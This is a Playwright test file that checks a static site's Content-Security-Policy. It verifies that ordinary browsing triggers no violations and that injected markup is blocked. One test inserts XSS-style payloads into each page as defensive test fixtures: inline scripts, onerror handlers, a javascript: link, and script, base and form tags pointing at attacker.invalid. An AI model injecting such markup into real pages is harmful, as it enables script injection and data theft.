import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import { attackSite, pageKinds, pagesOf, testSite } from './sites.ts'
import { noIncidents, watchPage } from './watch-page.ts'

const origin = `http://127.0.0.1:${testSite.port}`
const kinds = pageKinds(testSite)

test('every page carries a policy that allows nothing inline and no evaluation @once', () => {
  for (const site of [testSite, attackSite]) {
    const files = pagesOf(site).map((path) => `${path.slice(site.basePath.length)}index.html`)
    for (const file of [...files, '/404.html']) {
      const html = readFileSync(join(site.out, file), 'utf8')
      const policies = [...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/g)]
      expect(policies, file).toHaveLength(1)
      const policy = policies[0]![1]!.replaceAll('&#x27;', "'")
      expect(policy, file).toMatch(
        /^default-src 'none'; script-src (?:'none'|'self'(?: 'wasm-unsafe-eval')?);/,
      )
      expect(policy, file).not.toMatch(/unsafe-inline|unsafe-eval'(?<!wasm-unsafe-eval')|\*|https?:/)
      // It must stand before anything that it governs.
      expect(html.indexOf('http-equiv'), file).toBeLessThan(
        Math.min(
          ...[html.indexOf('<style'), html.indexOf('<script'), html.indexOf('<link')].filter((at) => at >= 0),
        ),
      )
    }
  }
})

for (const { kind, path } of kinds) {
  test(`${kind} ${path}: nothing is violated, thrown or asked of another host in ordinary use`, async ({
    page,
  }) => {
    const seen = await watchPage(page, origin)
    await page.goto(path)
    if (kind === 'not found') seen.errors.length = 0
    await page.mouse.wheel(0, 800)
    for (const key of ['Tab', 'Tab', 'j', 'j', 'k', '?', 'Escape', 'p', 'p', '1', 'Escape'])
      await page.keyboard.press(key)
    const mark = page.locator('main a.mark:visible').first()
    if (kind === 'reader' && (await mark.count()) > 0) await mark.click()
    await page.emulateMedia({ colorScheme: 'dark', media: 'print' })
    await page.emulateMedia({ colorScheme: 'light', media: 'screen' })
    await page.mouse.wheel(0, -800)
    await page.evaluate(() => document.fonts.ready.then(() => undefined))
    expect(seen).toEqual(noIncidents)
  })

  test(`${kind} ${path}: what gets into the page all the same does not run @once`, async ({ page }) => {
    const seen = await watchPage(page, origin)
    // As if a source had come through unsanitised.
    await page.route(origin + path, async (route) => {
      const response = await route.fetch()
      const html = await response.text()
      await route.fulfill({
        response,
        body: html.replace(
          '</main>',
          `<script>trip()</script><script src="https://attacker.invalid/x.js"></script><img src="x" onerror="trip()"><img src="https://attacker.invalid/p.png"><iframe srcdoc="<script>parent.trip()</script>"></iframe><a id="run" href="javascript:trip()">x</a><base href="https://attacker.invalid/"><form id="send" action="https://attacker.invalid/"></form><p style="color: rgb(1, 2, 3)" id="styled">x</p></main>`,
        ),
      })
    })
    await page.goto(path)
    await page.evaluate(() => {
      document.getElementById('run')?.click()
      ;(document.getElementById('send') as HTMLFormElement).requestSubmit()
    })
    // In the page's own world, where the policy holds, and not in the test's.
    const tried = await page.evaluate(() => {
      const script = document.createElement('script')
      try {
        script.textContent = 'trip()'
      } catch {
        // Trusted Types refuse the text; the policy would refuse the script.
      }
      document.body.append(script)
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=trip()>')
        return 'taken'
      } catch {
        return 'refused'
      }
    })
    expect(tried).toBe(kind === 'search' ? 'taken' : 'refused')
    const color = await page.evaluate(() => getComputedStyle(document.getElementById('styled')!).color)
    expect(color).not.toBe('rgb(1, 2, 3)')
    await expect.poll(() => seen.violations.length).toBeGreaterThan(5)
    expect(seen.trips).toEqual([])
    expect(seen.foreign).toEqual([])
    expect(page.url()).toBe(origin + path)
  })
}
